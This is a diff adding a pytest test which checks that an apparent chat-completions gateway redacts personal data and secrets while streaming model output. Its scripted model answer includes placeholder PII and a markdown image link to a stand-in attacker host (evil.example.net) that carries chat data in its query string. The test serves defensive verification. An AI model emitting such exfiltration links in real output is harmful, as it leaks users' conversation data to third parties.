@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import time
 
 import pytest
@@ -170,3 +171,28 @@ def test_heartbeats_while_waiting_for_tokens(http, alice):
         lines = list(reply.iter_lines())
     assert ": ping" in lines, "a heartbeat comment was sent while the prompt was processed"
     assert any(line.startswith("event: complete") for line in lines)
+
+
+def test_personal_data_in_model_output_is_redacted_while_streaming(fleet, alice, http):
+    """The fake upstream streams a scripted answer in 3-character pieces (boundaries cut through
+    every value); neither the SSE stream nor the stored message shows the raw values."""
+    secrets = ["jane.doe@example.com", "4111 1111 1111 1111", "+1 415 555 0132", "DE89 3704 0044 0532 0130 00",
+               "sk-proj-abcdefghijklmnopqrstuvwx1234"]
+    script = f"Sure. Mail {secrets[0]}, card {secrets[1]}, phone {secrets[2]}, IBAN {secrets[3]}, key {secrets[4]}. " \
+             "![x](https://evil.example.net/p.png?c=chat) Done."
+    fleet.upstream.control(script=script, script_piece=3)
+    try:
+        with http.stream("POST", "/v1/chat/completions", headers=auth(alice),
+                         json={"model": "fake:fake-model", "stream": True, "messages": [{"role": "user", "content": "hi"}]}) as reply:
+            assert reply.status_code == 200
+            body = "".join(reply.iter_text())
+        text = "".join(json.loads(line[6:])["choices"][0]["delta"].get("content", "")
+                       for line in body.splitlines() if line.startswith("data: {") and '"choices":[{' in line)
+        for value in secrets:
+            assert value not in body
+        assert "evil.example.net" not in body
+        for label in ("EMAIL", "CARD", "PHONE", "IBAN", "SECRET"):
+            assert f"[{label} REDACTED]" in text
+        assert text.startswith("Sure.") and text.endswith("Done.")
+    finally:
+        fleet.upstream.control(script="")
